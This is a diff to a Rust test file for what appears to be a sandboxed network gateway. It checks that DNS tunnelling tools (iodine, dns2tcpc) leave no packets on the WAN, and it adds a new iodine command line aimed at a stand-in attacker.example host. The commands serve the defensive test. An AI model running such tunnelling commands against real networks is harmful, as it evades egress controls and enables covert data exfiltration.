@@ -46,7 +46,9 @@ fn a_thousand_names_of_the_attackers_leave_no_packet_on_the_wan() {
             let name = format!("{label}.{}", zone[number % zone.len()]);
             let kind = kinds[number % kinds.len()];
             let server = servers[number % servers.len()];
-            let asked = if number % 20 == 0 { ask_tcp } else { ask_udp };
+            // By tens: every type is asked for over both.
+            let over_tcp = (number / kinds.len()).is_multiple_of(20);
+            let asked = if over_tcp { ask_tcp } else { ask_udp };
             let answer = asked(AGENT, server, &query(&name, kind))
                 .unwrap_or_else(|error| panic!("{server} {name} {kind}: {error}"));
             let expected = match kind {
@@ -80,6 +82,8 @@ fn tunnels_over_dns_find_nothing_to_ride_on() {
         let lines = [
             format!("iodine -f -r -P secret {v4} i4.attacker.example"),
             format!("iodine -f -r -P secret -T NULL -O raw {v4} raw.attacker.example"),
+            // Without -r it sends datagrams to the server itself, as soon as it can.
+            format!("iodine -f -P secret {v4} u4.attacker.example"),
             format!("iodine -f -r -P secret -T TXT {v6} i6.attacker.example"),
             // It knows of no IPv6.
             format!("dns2tcpc -c -z d4.attacker.example {v4}"),
@@ -102,11 +106,18 @@ fn tunnels_over_dns_find_nothing_to_ride_on() {
         }
         assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
         assert!(!wan.holds("attacker"), "the attacker's name is on the WAN");
+        let bytes = wan.bytes();
+        let holds = |address: &[u8]| bytes.windows(address.len()).any(|at| at == address);
+        assert!(
+            !holds(&ATTACKER.v4().octets()) && !holds(&ATTACKER.v6().octets()),
+            "to the server"
+        );
         // The capture sees what there is to see.
         ask(anywhere(), OPENAI.name, RecordType::A);
         assert!(wan.holds("openai"));
         // They did try: of the resolver that each was given.
-        let tried = [("i4", &v4), ("raw", &v4), ("i6", &v6), ("d4", &v4), ("key", &v4)];
+        let tried =
+            [("i4", &v4), ("raw", &v4), ("u4", &v4), ("i6", &v6), ("d4", &v4), ("key", &v4)];
         for (zone, server) in tried {
             let zone = format!("{zone}.attacker.example");
             let tried = world.gateway.audit.wait_for(|record| {
